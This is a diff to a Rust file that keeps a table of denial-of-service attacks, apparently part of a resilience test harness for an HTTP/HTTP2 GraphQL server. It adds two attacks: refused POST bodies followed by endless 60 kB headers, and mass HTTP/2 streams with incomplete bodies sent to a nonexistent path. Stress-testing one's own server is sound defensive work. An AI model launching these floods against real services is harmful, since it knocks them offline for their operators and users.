@@ -63,14 +63,14 @@ pub struct Attack {
 }
 
 /// All of them, in the order of the table.
-pub const ATTACKS: [Attack; 18] = [
+pub const ATTACKS: [Attack; 20] = [
     Attack { name: "ping-flood", launch: ping_flood },
     Attack { name: "kept-answers", launch: kept_answers },
     Attack { name: "http2-window", launch: http2_window },
     Attack { name: "unread-rest", launch: unread_rest },
     Attack { name: "bodies", launch: bodies },
-    Attack { name: "http2-bodies-1", launch: |target| http2_bodies(target, 1) },
-    Attack { name: "http2-bodies", launch: |target| http2_bodies(target, target.share(50)) },
+    Attack { name: "http2-bodies-1", launch: |target| http2_bodies(target, "/graphql", 1) },
+    Attack { name: "http2-bodies", launch: |target| http2_bodies(target, "/graphql", target.share(50)) },
     Attack { name: "idle-sockets", launch: idle_sockets },
     Attack { name: "messages", launch: unfinished_messages },
     Attack { name: "frames", launch: announced_frames },
@@ -82,6 +82,8 @@ pub const ATTACKS: [Attack; 18] = [
     Attack { name: "chunks", launch: chunks },
     Attack { name: "waiting", launch: waiting_documents },
     Attack { name: "readers", launch: readers },
+    Attack { name: "refused-bodies", launch: refused_bodies },
+    Attack { name: "refused-streams", launch: |target| http2_bodies(target, "/nowhere", target.share(900)) },
 ];
 
 /// The attack of this name.
@@ -452,6 +454,14 @@ fn readers(target: &Target) -> Standing {
     })
 }
 
+/// Bodies that are refused, each followed by a head of 60 kB that does not end.
+fn refused_bodies(target: &Target) -> Standing {
+    let refused = b"POST /nowhere HTTP/1.1\r\nHost: phipi\r\nContent-Length: 20000\r\n\r\n";
+    let refused = [refused.as_slice(), &vec![b' '; 20_000]];
+    let head = [b"GET / HTTP/1.1\r\nHost: phipi\r\nx: ".as_slice(), &vec![b'x'; 60_000]];
+    Standing::of(target.push(target.share(3_000), |_| refused.concat(), &head.concat()))
+}
+
 /// A client that asks again when it has an answer.
 struct Reader {
     stream: TcpStream,
@@ -473,9 +483,9 @@ fn wide(n: usize) -> String {
     format!(r#"{{"query":"{{fib(n:{n}){{{}}}}}"}}"#, "n ".repeat(989))
 }
 
-/// Bodies of which the last byte is missing, on a hundred streams of each connection of HTTP/2.
-fn http2_bodies(target: &Target, connections: usize) -> Standing {
-    let mut connections: Vec<Uploads> = (0..connections).map_while(|_| Uploads::begin(target).ok()).collect();
+/// Bodies of which the last byte is missing, on a hundred streams of each connection of HTTP/2, as far as they are not refused.
+fn http2_bodies(target: &Target, path: &str, connections: usize) -> Standing {
+    let mut connections: Vec<Uploads> = (0..connections).map_while(|_| Uploads::begin(target, path).ok()).collect();
     let until = Instant::now() + PUSH;
     while Instant::now() < until && connections.iter().any(|connection| !connection.is_done) {
         let moved = connections.iter_mut().map(Uploads::step).fold(false, bool::bitor);
@@ -506,10 +516,10 @@ impl Uploads {
     const STREAMS: usize = 100;
     const INITIAL: i64 = 65_535;
 
-    fn begin(target: &Target) -> io::Result<Self> {
+    fn begin(target: &Target, path: &str) -> io::Result<Self> {
         let stream = target.connect()?;
         stream.set_nonblocking(true)?;
-        let begin = |k| request(k, END_HEADERS, "POST", "/graphql", &[]);
+        let begin = |k| request(k, END_HEADERS, "POST", path, &[]);
         let out = [preface(), (0..Self::STREAMS).flat_map(begin).collect()].concat();
         let (windows, left) = (vec![Self::INITIAL; Self::STREAMS], vec![BODY_BYTES - 1; Self::STREAMS]);
         let window = Self::INITIAL;
